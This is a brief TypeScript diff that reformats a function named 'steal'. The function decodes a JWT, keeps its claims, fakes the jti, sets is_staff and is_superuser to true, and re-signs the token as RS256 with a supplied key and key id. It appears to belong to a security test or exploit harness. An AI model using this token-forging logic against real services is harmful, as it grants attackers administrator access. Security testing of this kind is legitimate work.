@@ -44,7 +44,12 @@ function steal(kid: string): () => string {
   return () => {
     const { iat: _, exp: __, jti = '', ...claims } = jwt.decode(token, { json: true }) ?? {};
     // Its first 32 bits are the session epoch of the user.
-    const forged = { ...claims, jti: jti.slice(0, 8) + randomUUID().slice(8), is_staff: true, is_superuser: true };
+    const forged = {
+      ...claims,
+      jti: jti.slice(0, 8) + randomUUID().slice(8),
+      is_staff: true,
+      is_superuser: true,
+    };
     const header = { alg: 'RS256', typ: 'at+jwt' };
     return jwt.sign(forged, pem, { algorithm: 'RS256', keyid: kid, header, expiresIn: 300 });
   };
